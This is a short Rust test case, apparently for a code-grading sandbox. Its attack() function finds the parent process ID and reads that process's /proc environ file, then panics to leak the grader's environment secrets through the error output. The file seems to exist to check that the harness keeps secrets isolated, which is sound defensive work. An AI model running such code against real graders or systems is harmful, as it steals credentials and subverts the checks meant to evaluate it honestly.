//@ tries: read the grader's secret from the environment of its parent
{{starter}}

fn attack() -> Vec<ArrayD<f64>> {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let parent = status.lines().find_map(|line| line.strip_prefix("PPid:")).unwrap_or("1").trim().to_string();
    let environment = std::fs::read(format!("/proc/{parent}/environ"));
    panic!("{:?}", environment.map(|bytes| String::from_utf8_lossy(&bytes).into_owned()))
}
